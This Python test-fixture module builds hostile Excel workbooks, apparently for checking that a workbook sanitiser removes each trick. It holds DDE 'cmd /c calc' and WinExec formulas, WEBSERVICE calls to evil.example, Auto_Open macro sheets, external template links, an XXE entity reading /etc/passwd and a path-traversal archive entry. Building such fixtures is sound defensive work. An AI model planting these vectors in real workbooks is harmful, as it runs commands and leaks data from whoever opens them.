"""Workbooks that somebody made to reach whoever opens the copy: one trick each, to be combined."""

import zipfile
from collections.abc import Callable
from io import BytesIO

Parts = dict[str, bytes]

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
EVIL = "http://evil.example/x"

# A formula each, which no copy may hold
FORMULAS = [
    "cmd|'/c calc'!A0",
    'DDE("soffice","/etc/passwd","A1")',
    f'WEBSERVICE("{EVIL}")',
    f'HYPERLINK("{EVIL}","点这里")',
    "[1]Sheet1!A1",
    "'[1]Sheet1'!$A$1",
    r"'\\evil\share\[x.xlsx]Sheet1'!A1",
    'CALL("kernel32","WinExec","JCJ","calc",1)',
    'EXEC("calc")',
    'REGISTER.ID("x","y")',
    'RTD("x",,"y")',
    "INDIRECT(\"'[x]S'!A1\")",
    f'_xlfn.IMAGE("{EVIL}")',
    'IF(A1="",EVALUATE("1"),2)',
    "sum(A1)+cmd_x007C_'/c calc'!A0",
    '"a_x0022_&amp;WEBSERVICE(_x0022_b"',
    "别处!A1",
    "未知名",
    "Macro1!A1()",
    "SQL.REQUEST(1)",
    "ſum(A1)",
    "SUM(A1)|A2",
    "Table1[合计]",
]


def unpacked(data: bytes) -> Parts:
    """Return the parts of a workbook."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Parts) -> bytes:
    """Return a workbook of the parts."""
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return content.getvalue()


def with_cells(parts: Parts, cells: str) -> None:
    """Add a row to the sheet, far below the form."""
    row = f'<row r="900">{cells}</row></sheetData>'
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", row.encode())


def _in_sheet(parts: Parts, xml: str, before: str = "<printOptions") -> None:
    parts[SHEET] = parts[SHEET].replace(before.encode(), (xml + before).encode(), 1)


def _at_the_end(parts: Parts, xml: str) -> None:
    parts[SHEET] = parts[SHEET].replace(b"</worksheet>", f"{xml}</worksheet>".encode())


def _relate(parts: Parts, file: str, kind: str, goal: str, *, outside: bool = False) -> str:
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    known = (
        parts.get(file, empty).replace(b"/>", b"></Relationships>", 1)
        if (file not in parts)
        else parts[file]
    )
    identifier = f"rIdX{known.count(b'<Relationship ')}"
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="{identifier}" Type="{kind}" Target="{goal}"{mode}/></Relationships>'
    parts[file] = known.replace(b"</Relationships>", one.encode())
    return identifier


def _declare(parts: Parts, name: str, content_type: str) -> None:
    one = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", one.encode())


def _macros(parts: Parts) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    parts["xl/vbaProject.bin"] = b"\x01"
    _declare(parts, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    _relate(parts, BOOK_RELATIONS, f"{MICROSOFT}/vbaProject", "vbaProject.bin")


def _macro_sheet(parts: Parts) -> None:
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    )
    kind = f"{MICROSOFT}/xlMacrosheet"
    identifier = _relate(parts, BOOK_RELATIONS, kind, "macrosheets/sheet1.xml")
    sheet = f'<sheet name="Macro1" sheetId="99" r:id="{identifier}"/></sheets>'
    names = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
    book = parts[BOOK].replace(b"</sheets>", sheet.encode())
    parts[BOOK] = book.replace(b"</definedNames>", names.encode())


def _dde_link(parts: Parts) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    kind, goal = f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml"
    identifier = _relate(parts, BOOK_RELATIONS, kind, goal)
    links = f'<externalReferences><externalReference r:id="{identifier}"/></externalReferences>'
    parts[BOOK] = parts[BOOK].replace(b"<definedNames>", f"{links}<definedNames>".encode())


def _objects(parts: Parts) -> None:
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf"
    kind, goal = f"{OFFICE}/oleObject", "../embeddings/oleObject1.bin"
    identifier = _relate(parts, SHEET_RELATIONS, kind, goal)
    ole = f'<oleObject progId="Package" shapeId="1025" r:id="{identifier}"/>'
    _at_the_end(parts, f"<oleObjects>{ole}</oleObjects>")
    _at_the_end(
        parts,
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006'
        f'"><mc:Choice Requires="x14"><controls><control shapeId="1" r:id="{identifier}"/>'
        "</controls></mc:Choice></mc:AlternateContent>",
    )


def _linked_object(parts: Parts) -> None:
    _relate(parts, SHEET_RELATIONS, f"{OFFICE}/oleObject", f"file:///{EVIL}", outside=True)
    _at_the_end(parts, '<oleObjects><oleObject link="[1]!x" shapeId="1"/></oleObjects>')


def _link(parts: Parts) -> None:
    identifier = _relate(parts, SHEET_RELATIONS, f"{OFFICE}/hyperlink", EVIL, outside=True)
    links = f'<hyperlink ref="A1" r:id="{identifier}"/><hyperlink ref="A2" location="{EVIL}"/>'
    links += r'<hyperlink ref="A3" location="\'\\evil\[x.xlsx]S\'!A1"/>'.replace(r"\'", "'")
    _in_sheet(parts, f"<hyperlinks>{links}</hyperlinks>")


def _template(parts: Parts) -> None:
    for file in ("_rels/.rels", BOOK_RELATIONS):
        _relate(parts, file, f"{OFFICE}/attachedTemplate", EVIL, outside=True)
    _relate(parts, BOOK_RELATIONS, f"{OFFICE}/worksheet", EVIL, outside=True)


def _lower_case_mode(parts: Parts) -> None:
    _relate(parts, SHEET_RELATIONS, f"{OFFICE}/image", EVIL, outside=True)
    parts[SHEET_RELATIONS] = parts[SHEET_RELATIONS].replace(b'"External"', b'"external"')


def _queries(parts: Parts) -> None:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{space}"><connection id="1" type="5" refreshOnLoad="1">'
        f'<dbPr connection="{EVIL}"/></connection></connections>'
    ).encode()
    _relate(parts, BOOK_RELATIONS, f"{OFFICE}/connections", "connections.xml")
    parts["xl/queryTables/queryTable1.xml"] = f'<queryTable xmlns="{space}"/>'.encode()
    _relate(parts, SHEET_RELATIONS, f"{OFFICE}/queryTable", "../queryTables/queryTable1.xml")
    parts["customXml/item1.xml"] = b"<x/>"
    _relate(parts, "_rels/.rels", f"{OFFICE}/customXml", "customXml/item1.xml")


def _names(parts: Parts) -> None:
    names = "".join(
        f"<definedName {name}>{formula}</definedName>"
        for name, formula in [
            ('name="一"', "cmd|'/c calc'!A0"),
            ('name="二"', "[1]Sheet1!$A$1"),
            ('name="_xlnm.Auto_Open"', "报表!$A$1"),
            ('name="Auto_Open"', "报表!$A$1"),
            ('name="三" function="1" xlm="1" vbProcedure="1"', "报表!$A$1"),
            ('name="四"', f'WEBSERVICE("{EVIL}")'),
        ]
    )
    new = f"{names}</definedNames>".encode()
    parts[BOOK] = parts[BOOK].replace(b"</definedNames>", new)
    with_cells(parts, '<c r="A900"><f>一+三</f><v>1</v></c>')


def _rules(parts: Parts) -> None:
    parts[SHEET] = parts[SHEET].replace(
        b"<conditionalFormatting",
        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9"><formula>'
        f'WEBSERVICE("{EVIL}")</formula></cfRule></conditionalFormatting>'
        '<conditionalFormatting sqref="A2"><cfRule type="dataBar" priority="8"><dataBar>'
        '<cfvo type="formula" val="[1]S!A1"/><cfvo type="max"/><color rgb="FF00FF00"/>'
        "</dataBar></cfRule></conditionalFormatting><conditionalFormatting".encode(),
        1,
    )
    rule = '<dataValidation type="list" sqref="A1"><formula1>[1]S!A1</formula1></dataValidation>'
    parts[SHEET] = parts[SHEET].replace(b"</dataValidations>", f"{rule}</dataValidations>".encode())


def _formulas(parts: Parts) -> None:
    cells = [f'<c r="A9{n}" t="str"><f>{text}</f><v>=1</v></c>' for n, text in enumerate(FORMULAS)]
    rows = "".join(f'<row r="9{n}">{cell}</row>' for n, cell in enumerate(cells))
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", f"{rows}</sheetData>".encode())


def _shapes_of_formulas(parts: Parts) -> None:
    evil = f'WEBSERVICE("{EVIL}")'
    cells = [
        f'<c r="A900"><f t="shared" ref="A900:B900" si="0">{evil}</f><v>1</v></c>',
        '<c r="B900"><f t="shared" si="0"/><v>2</v></c>',
        f'<c r="C900"><f t="array" ref="C900:D900">{evil}</f><v>3</v></c>',
        '<c r="E900"><f t="dataTable" ref="E900" r1="A1" dt2D="0"/><v>4</v></c>',
        f'<c r="F900"><v>5</v><f>SUM(A1)</f><f>{evil}</f></c>',
        f'<c r="G900"><is><f>{evil}</f></is></c>',
        f'<c r="H900"><f>SUM(<v>A1</v>)</f></c><f>{evil}</f>',
        '<c r="I900"><f t="shared" si="1">SUM(A1)</f><v>6</v></c>',
        f'<c r="J900"><f t="shared" si="1">{evil}</f><v>7</v></c>',
    ]
    with_cells(parts, "".join(cells))


def _unlisted_sheet(parts: Parts) -> None:
    parts["xl/worksheets/sheet7.xml"] = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><f>[1]S!A1</f></c></row></sheetData></worksheet>'
    )
    _relate(parts, BOOK_RELATIONS, f"{OFFICE}/worksheet", "worksheets/sheet7.xml")


def _extensions(parts: Parts) -> None:
    _at_the_end(
        parts,
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.'
        'microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/'
        'office/excel/2006/main"><x14:dataValidations><x14:dataValidation type="list">'
        "<x14:formula1><xm:f>[1]S!A1</xm:f></x14:formula1></x14:dataValidation>"
        "</x14:dataValidations></ext></extLst>",
    )


def _instructions(parts: Parts) -> None:
    for name in (SHEET, BOOK, "xl/styles.xml"):
        style = f'<?xml-stylesheet href="{EVIL}" type="text/xsl"?><!-- {EVIL} --><'.encode()
        head, rest = parts[name].split(b"?>", 1)
        parts[name] = head + b"?>" + rest.replace(b"<", style, 1)


def _theme(parts: Parts) -> None:
    name = "xl/theme/theme1.xml"
    blip = (
        b'<a:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:link="rIdX0"/></a:blipFill></a:bgFillStyleLst>'
    )
    parts[name] = parts[name].replace(b"</a:bgFillStyleLst>", blip)
    file = "xl/theme/_rels/theme1.xml.rels"
    _relate(parts, file, f"{OFFICE}/image", EVIL, outside=True)


def _pictures(parts: Parts) -> None:
    parts["xl/drawings/drawing1.xml"] = b"<x/>"
    identifier = _relate(parts, SHEET_RELATIONS, f"{OFFICE}/drawing", "../drawings/drawing1.xml")
    _at_the_end(parts, f'<drawing r:id="{identifier}"/><picture r:id="{identifier}"/>')
    file = "xl/drawings/_rels/drawing1.xml.rels"
    _relate(parts, file, f"{OFFICE}/image", EVIL, outside=True)
    parts["xl/drawings/vmlDrawing1.vml"] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://evil'
        b'.example/x"/></v:shape></xml>'
    )
    kind, goal = f"{OFFICE}/vmlDrawing", "../drawings/vmlDrawing1.vml"
    _at_the_end(parts, f'<legacyDrawing r:id="{_relate(parts, SHEET_RELATIONS, kind, goal)}"/>')


def _button(parts: Parts) -> None:
    name = "xl/drawings/vmlDrawing9.vml"
    parts[name] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:'
        b'excel"><v:shape id="_x0000_s1030"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!x'
        b"</x:FmlaMacro></x:ClientData></v:shape></xml>"
    )
    kind, goal = f"{OFFICE}/vmlDrawing", "../drawings/vmlDrawing9.vml"
    _at_the_end(parts, f'<legacyDrawing r:id="{_relate(parts, SHEET_RELATIONS, kind, goal)}"/>')


def _odd_files(parts: Parts) -> None:
    parts["evil.exe"] = parts["../../evil.lnk"] = b"MZ"
    parts["docProps/app.xml"] = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
        b'properties"><HyperlinkBase>http://evil.example/x</HyperlinkBase></Properties>'
    )
    parts["xl/printerSettings/printerSettings1.bin"] = b"\x00"


def _other_encoding(parts: Parts) -> None:
    text = parts[SHEET].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts[SHEET] = text.encode("utf-16")


def _entities(parts: Parts) -> None:
    head, rest = parts[SHEET].split(b"?>", 1)
    dtd = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts[SHEET] = head + b"?>" + dtd + rest


TRICKS: dict[str, Callable[[Parts], None]] = {
    "macros": _macros,
    "macro-sheet": _macro_sheet,
    "dde-link": _dde_link,
    "objects": _objects,
    "linked-object": _linked_object,
    "link": _link,
    "template": _template,
    "lower-case-mode": _lower_case_mode,
    "queries": _queries,
    "names": _names,
    "rules": _rules,
    "formulas": _formulas,
    "shapes-of-formulas": _shapes_of_formulas,
    "unlisted-sheet": _unlisted_sheet,
    "extensions": _extensions,
    "instructions": _instructions,
    "theme": _theme,
    "pictures": _pictures,
    "button": _button,
    "odd-files": _odd_files,
    "other-encoding": _other_encoding,
    "entities": _entities,
}
REFUSED = {"other-encoding", "entities"}  # as a whole: no copy
UNMISSED = {"odd-files", "instructions"}  # nobody sees that it is gone
